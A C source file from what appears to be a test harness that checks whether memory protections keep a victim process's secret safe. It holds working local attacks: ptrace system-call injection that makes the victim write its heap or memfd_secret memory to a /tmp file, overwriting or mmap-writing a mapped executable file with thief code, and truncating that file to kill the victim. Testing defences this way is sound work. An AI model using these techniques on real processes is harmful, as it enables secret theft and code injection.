/*
 * code.c - the victim itself is made to hand out its secret: what no protection of pages stops.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "arch.h"

enum { PATIENCE = 40, STEP_MS = 50, PAGE = 4096 };

/* One system call by a stopped thread. */
static long make_call(pid_t pid, const struct user_regs_struct *from, long number, const uint64_t args[4])
{
	struct user_regs_struct regs = *from;
	int status;

	arch_call(&regs, number, args);
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0L, 0L) < 0)
		return -errno;
	if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
		return -ESRCH;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return -errno;
	return (long)regs.rax;
}

static int poke_text(pid_t pid, unsigned long long at, const char *text)
{
	for (size_t i = 0; i <= strlen(text); i += sizeof(long)) {
		long word = 0;

		memcpy(&word, text + i, strnlen(text + i, sizeof(word)));
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(at + i), (void *)word) < 0)
			return -errno;
	}
	return 0;
}

/* A thread that runs code of its own instead would run who knows what, and end of it. */
static int is_in_call(pid_t pid, const struct user_regs_struct *regs)
{
	errno = 0;
	return (ptrace(PTRACE_PEEKTEXT, pid, (void *)(uintptr_t)ARCH_SYSCALL_AT(regs), NULL) & 0xffff) == ARCH_SYSCALL &&
	       errno == 0;
}

/* open(path), pwrite(it, secret), close(it): as if the victim had wanted to. */
static long make_it_write(const struct attack *a, pid_t pid, const char *path, unsigned long long secret)
{
	struct user_regs_struct regs;
	long fd = poke_text(pid, a->target.scratch, path), written;

	if (fd < 0)
		return fd;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return -errno;
	if (!is_in_call(pid, &regs))
		return -ENODATA;
	fd = make_call(pid, &regs, SYS_openat,
		       (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
	written = fd;
	if (fd >= 0) {
		written = make_call(pid, &regs, SYS_pwrite64,
				    (const uint64_t[4]){ (uint64_t)fd, secret, a->target.length, 0 });
		(void)make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
	}
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &regs);
	return written;
}

static int inject_once(struct attack *a, unsigned long long secret, const char *path, int fd)
{
	pid_t pid = a->target.pid;
	int result = trace(pid, a->row->number);
	long written;

	if (result != 0)
		return result;
	written = make_it_write(a, pid, path, secret);
	untrace(pid);
	return written < 0 ? (int)written : saw_file(a, fd);
}

/* Where the thread is stopped is chance: a call that is about to be made again comes before ours. */
static int inject(struct attack *a)
{
	unsigned long long secret = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
	char path[] = "/tmp/attack.XXXXXX";
	int fd, result = -ENODATA;

	if (secret == 0)
		return not_here(a, "no memfd_secret");
	fd = mkstemp(path);
	if (fd < 0 || fchmod(fd, 0666) < 0)
		return not_here(a, "no file");
	for (int i = 0; result == -ENODATA && i < PATIENCE; i++) {
		if (i > 0)
			moment(STEP_MS);
		result = inject_once(a, secret, path, fd);
	}
	(void)unlink(path);
	return result;
}

static int open_code(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	a->fd = open_path(a->target.code, O_RDWR);
	return a->fd < 0 ? a->fd : 0;
}

static ssize_t put_code(struct attack *a, const char *code, size_t size)
{
	if (a->at == NULL)
		return pwrite(a->fd, code, size, 0);
	memcpy(a->at, code, size);
	return (ssize_t)size;
}

/* Without a tracer: new code into a file that the victim has mapped and runs. */
static int write_code(struct attack *a)
{
	char code[] = ARCH_THIEF "/tmp/attack.XXXXXX";
	char *path = code + sizeof(ARCH_THIEF) - 1;
	int loot = mkstemp(path), result;

	/* Rows of --hold attack at the same time: one after the other has the victim's code. */
	if (loot < 0 || fchmod(loot, 0666) < 0 || flock(a->fd, LOCK_EX) < 0)
		return not_here(a, "no file");
	result = put_code(a, code, sizeof(code)) < 0 ? -errno : -ENODATA;
	for (int i = 0; result == -ENODATA && i < PATIENCE; i++) {
		moment(STEP_MS);
		result = saw_file(a, loot);
	}
	(void)put_code(a, ARCH_RETURN, 1);
	(void)flock(a->fd, LOCK_UN);
	(void)unlink(path);
	return result == -ENODATA ? ALLOWED : result;
}

static int overwrite_file(struct attack *a)
{
	int result = open_code(a);

	return result == 0 ? write_code(a) : result;
}

/* Its pages are shared with everybody who has the file mapped. */
static int map_and_write(struct attack *a)
{
	a->at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, a->fd, 0);
	return a->at == MAP_FAILED ? -errno : write_code(a);
}

static int cut_file(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	return truncate(a->target.code, 0) < 0 ? -errno : ALLOWED;
}

const struct row code_rows[] = {
	{ .name = "inject_heap", .vector = "ptrace_attach", .what = "injected system calls: it writes its secret to a file",
	  .run = inject, .text = "h", .number = BY_ATTACH },
	{ .name = "inject_secretmem", .vector = "ptrace_attach", .what = "the same, from memfd_secret", .run = inject,
	  .text = "s", .number = BY_SEIZE },
	{ .name = "code_file", .vector = "mapped_file", .what = "new code into a mapped file, which the victim then runs",
	  .run = overwrite_file },
	{ .name = "code_earlier", .vector = "mapped_file", .what = "the same, through a descriptor from before protection",
	  .run = write_code, .hold = open_code },
	{ .name = "code_earlier_map", .vector = "mapped_file", .what = "the same, the descriptor mapped and written to",
	  .run = map_and_write, .hold = open_code },
	{ 0 },
};

/* Afterwards the victim has no code to run. */
const struct row cut_rows[] = {
	{ .name = "code_truncate", .vector = "mapped_file", .what = "the mapped file is cut off under the victim",
	  .run = cut_file, .flags = ENDS_VICTIM },
	{ 0 },
};
